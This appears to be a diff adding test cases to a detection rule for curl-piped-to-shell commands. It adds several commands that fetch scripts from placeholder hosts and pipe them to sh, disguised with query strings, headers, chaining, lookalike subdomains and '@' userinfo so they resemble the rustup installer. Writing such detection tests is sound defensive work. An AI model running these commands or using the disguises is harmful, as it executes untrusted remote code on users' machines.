@@ -18,3 +18,15 @@ curl -s https://a.invalid/x.json | python3 -m json.tool
 # curl https://a.invalid/x | bash
 # ok: remote-code-pipe-to-shell
 curl | sh
+# ruleid: remote-code-pipe-to-shell
+curl -fsSL "https://files.acme.invalid/?u=https://sh.rustup.rs" | sh
+# ruleid: remote-code-pipe-to-shell
+curl -fsSL https://files.acme.invalid/x.sh -H "X-From: https://sh.rustup.rs" | sh
+# ruleid: remote-code-pipe-to-shell
+curl -fsSL https://sh.rustup.rs | sh; curl -fsSL https://files.acme.invalid/x.sh | sh
+# ruleid: remote-code-pipe-to-shell
+curl -fsSL https://sh.rustup.rs.acme.invalid/x.sh | sh
+# ruleid: remote-code-pipe-to-shell
+curl -fsSL https://sh.rustup.rs@acme.invalid/x.sh | sh
+# ok: remote-code-pipe-to-shell
+curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y
